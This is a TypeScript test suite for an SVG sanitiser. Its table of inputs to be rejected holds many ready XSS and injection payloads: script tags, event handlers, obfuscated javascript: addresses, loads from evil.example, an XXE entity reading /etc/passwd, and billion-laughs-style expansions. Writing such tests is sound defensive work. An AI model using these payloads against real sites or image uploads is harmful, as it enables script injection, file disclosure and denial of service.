import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { maxSvgBytes, sanitiseSvg, UnsafeSvgError } from './sanitiseSvg.ts'

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"${attributes}>${inside}</svg>`
const links = ' xmlns:xlink="http://www.w3.org/1999/xlink"'
const laughs = Array.from(
  { length: 12 },
  (_, i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(10)}</g>`,
).join('')
const masks = Array.from(
  { length: 12 },
  (_, i) => `<mask id="m${i + 1}">${`<rect mask="url(#m${i})" width="9" height="9"/>`.repeat(8)}</mask>`,
).join('')

const attacks: Record<string, string> = {
  'a script': svg('<script>alert(1)</script>'),
  'a script that is loaded': svg('<script href="https://evil.example/x.js"/>'),
  'a script in other letters': svg('<SCRIPT>alert(1)</SCRIPT>'),
  'a script under a prefix': svg('<s:script>alert(1)</s:script>', ' xmlns:s="http://www.w3.org/2000/svg"'),
  'a script of HTML': svg('<h:script>alert(1)</h:script>', ' xmlns:h="http://www.w3.org/1999/xhtml"'),
  'a script within a description': svg('<g><title/><desc/><script/></g>'),
  'HTML within': svg(
    '<foreignObject width="9" height="9"><b xmlns="http://www.w3.org/1999/xhtml">x</b></foreignObject>',
  ),
  'a frame': svg('<iframe src="https://evil.example"/>'),
  'an object': svg('<object data="https://evil.example"/>'),
  'a handler on the image': svg('', ' onload="alert(1)"'),
  'a handler on a shape': svg('<path d="M0 0" onclick="alert(1)"/>'),
  'a handler in other letters': svg('<path d="M0 0" OnMouseOver="alert(1)"/>'),
  'a handler of an animation': svg('<g onbegin="alert(1)"/>'),
  'a link to a script': svg('<a href="javascript:alert(1)"><path d="M0 0"/></a>'),
  'a use of a script address': svg('<use href="javascript:alert(1)"/>'),
  'a script address in references to characters': svg('<use href="&#106;avascript:alert(1)"/>'),
  'a script address with a tab in it': svg('<use href="java&#9;script:alert(1)"/>'),
  'a script address under the old name': svg('<use xlink:href="javascript:alert(1)"/>', links),
  'another file': svg('<use href="https://evil.example/x.svg#a"/>'),
  'another file without a scheme': svg('<use href="//evil.example/x.svg#a"/>'),
  'a neighbouring file': svg('<use href="x.svg#a"/>'),
  'a file in a data address': svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
  'a picture from elsewhere': svg('<image href="https://evil.example/pixel.png" width="1" height="1"/>'),
  'a picture in a data address': svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
  'a filter that loads a picture': svg(
    '<filter id="f"><feImage href="https://evil.example/x.png"/></filter><rect filter="url(#f)"/>',
  ),
  'paint from elsewhere': svg('<path d="M0 0" fill="url(https://evil.example/x.svg#a)"/>'),
  'paint from elsewhere in quotes': svg(`<path d="M0 0" fill="url('//evil.example/x.svg#a')"/>`),
  'paint from elsewhere in other letters': svg('<path d="M0 0" mask="URL( https://evil.example/#a )"/>'),
  'paint from two places': svg('<path d="M0 0" fill="url(#a) url(https://evil.example)"/>'),
  'an address in an attribute that has none': svg('<rect width="url(https://evil.example)"/>'),
  'a style sheet': svg('<style>path{fill:red}</style>'),
  'a style sheet that imports': svg('<style>@import "https://evil.example/x.css";</style>'),
  'a style sheet that loads': svg('<style>*{background:url(https://evil.example)}</style>'),
  'a declaration that loads': svg('<path d="M0 0" style="fill:url(https://evil.example/x)"/>'),
  'a declaration that loads, escaped': svg('<path d="M0 0" style="fill:\\75rl(https://evil.example/x)"/>'),
  'a declaration hidden by a comment': svg('<path d="M0 0" style="fill:u/**/rl(https://evil.example/x)"/>'),
  'a declaration that computes': svg('<path d="M0 0" style="fill:expression(alert(1))"/>'),
  'an animation of a link': svg('<use href="#a"><animate attributeName="href" values="javascript:x"/></use>'),
  'a setting of a handler': svg('<set attributeName="onmouseover" to="alert(1)"/>'),
  'a base for links': svg('<g xml:base="https://evil.example/"><use href="#a"/></g>'),
  'a document type': `<!DOCTYPE svg>${svg('')}`,
  'an entity': `<!DOCTYPE svg [<!ENTITY x "y">]>${svg('<path d="&x;"/>')}`,
  'a file through an entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('&x;')}`,
  'entities that multiply': `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>${svg('&b;')}`,
  'an undeclared entity': svg('<path d="&nbsp;"/>'),
  'a style sheet by instruction': `<?xml-stylesheet href="https://evil.example/x.xsl"?>${svg('')}`,
  'an instruction within': svg('<?php echo 1 ?>'),
  'a CDATA section': svg('<g><![CDATA[<script>alert(1)</script>]]></g>'),
  'text to read': svg('<text>Your wallet is locked, visit evil.example</text>'),
  'loose text': svg('hello'),
  'a video': svg('<video src="https://evil.example/x.mp4"/>'),
  'a cursor': svg('<cursor href="https://evil.example/x.cur"/>'),
  'references that multiply': svg(`<g id="a0"><path d="M0 0"/></g>${laughs}<use href="#a12"/>`),
  'masks that multiply': svg(`<mask id="m0"/>${masks}<rect mask="url(#m12)"/>`),
  'a reference to itself': svg('<g id="a"><use href="#a"/></g>'),
  'gradients in a circle': svg('<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/>'),
  'one id twice': svg('<g id="a"/><path id="a" d="M0 0"/><use href="#a"/>'),
  'a value that breaks out': svg('<path d="M0 0&quot; onload=&quot;alert(1)"/>'),
  'deep nesting': svg('<g>'.repeat(2_000) + '</g>'.repeat(2_000)),
  'too many bytes': svg(`<path d="M${'0 '.repeat(maxSvgBytes / 2)}"/>`),
  'an element that never ends': svg('<path d="M0 0">'),
  'two images': `${svg('')}${svg('')}`,
  'an attribute twice': svg('<path d="M0 0" d="M1 1"/>'),
  'an attribute without quotes': svg('<path d=M0/>'),
  'a null character': svg('<path d="M0\u0000"/>'),
  'a page': '<html><body>hello</body></html>',
  'an image without its namespace': '<svg viewBox="0 0 1 1"/>',
  nothing: '',
  'other text': 'GIF89a',
}

describe('what is refused', () => {
  for (const [name, image] of Object.entries(attacks))
    test(`error: ${name}`, () => {
      expect(() => sanitiseSvg(image)).toThrow(UnsafeSvgError)
    })
})

describe('what stays', () => {
  test('behavior: only what draws is written, in one form', () => {
    const drawn = sanitiseSvg(`\uFEFF<?xml version="1.0" encoding="UTF-8"?>
      <!-- drawn by hand -->
      <svg width="24" xmlns="http://www.w3.org/2000/svg" class="icon" viewBox="0 0 24 24"${links} data-name="x">
        <title>A wallet</title>
        <defs><linearGradient id="paint" xlink:href="#stops"/><linearGradient id="stops"/></defs>
        <g id="unused" clip-rule="evenodd"><path style="fill: url('#paint'); cursor: help" fill="red" d="M0
          0h24"/></g>
      </svg>`)
    expect(drawn).toMatchInlineSnapshot(
      `"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24"><defs><linearGradient href="#stops" id="paint"/><linearGradient id="stops"/></defs><g clip-rule="evenodd"><path d="M0 0h24" fill="url(#paint)"/></g></svg>"`,
    )
  })

  test('behavior: what an editor leaves in its own namespace is left out', () => {
    const image = svg(
      '<i:namedview pagecolor="#fff"><i:grid/></i:namedview><path d="M0 0" i:label="x"/>',
      ' xmlns:i="http://www.inkscape.org/namespaces/inkscape"',
    )
    expect(sanitiseSvg(image)).toBe(svg('<path d="M0 0"/>'))
  })

  test('behavior: an id that nothing could name is left out', () => {
    expect(sanitiseSvg(svg('<g id="a&quot;&gt;&lt;script&gt;"/><g id="Layer (1)"/>'))).toBe(svg('<g/><g/>'))
  })

  test('behavior: a reference to nothing is harmless', () => {
    expect(sanitiseSvg(svg('<path d="M0 0" fill="url(#gone)"/>'))).toBe(
      svg('<path d="M0 0" fill="url(#gone)"/>'),
    )
  })

  const shape = fc.letrec((tie) => ({
    shape: fc.oneof(
      { maxDepth: 5 },
      fc.record({ d: fc.stringMatching(/^[MmLlZz0-9 .,-]{0,20}$/) }).map(({ d }) => `<path d="${d}"/>`),
      fc.string().map((text) => `<!--${text.replace(/[-<>&]/g, '').replace(/\p{C}/gu, '')}-->`),
      fc
        .tuple(
          fc.constantFrom('g', 'defs', 'mask', 'clipPath', 'title'),
          fc.constantFrom('', ' id="x"', ' class="y"', ' opacity=" .5 "', ' style="fill:#fff;x:y"'),
          fc.array(tie('shape') as fc.Arbitrary<string>, { maxLength: 4 }),
        )
        .map(([name, attributes, inside]) => `<${name}${attributes}>${inside.join('\n')}</${name}>`),
    ),
  })).shape as fc.Arbitrary<string>

  test('property: its own output comes back unchanged', () => {
    fc.assert(
      fc.property(fc.array(shape, { maxLength: 5 }), (shapes) => {
        // An id must be unique.
        let count = 0
        const image = svg(shapes.join('')).replace(/ id="x"/g, () => ` id="x${count++}"`)
        const once = sanitiseSvg(image)
        expect(sanitiseSvg(once)).toBe(once)
      }),
    )
  })

  test('property: nothing that could run survives any text', () => {
    const piece = fc.constantFrom(
      ...['<', '>', '/', '"', "'", '=', ' ', '&#60;', '&lt;', '<!--', '-->', '<g>', '</g>', '<path d="M0"/>'],
      ...['script', 'onload', 'href', 'style', 'javascript:', 'url(', '#a', 'xlink:', ']]>', '<![CDATA['],
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        let text = ''
        try {
          text = sanitiseSvg(svg(pieces.join('')))
        } catch (error) {
          expect(error).toBeInstanceOf(UnsafeSvgError)
        }
        expect(text).not.toMatch(/script|onload|javascript|&/)
      }),
    )
  })
})
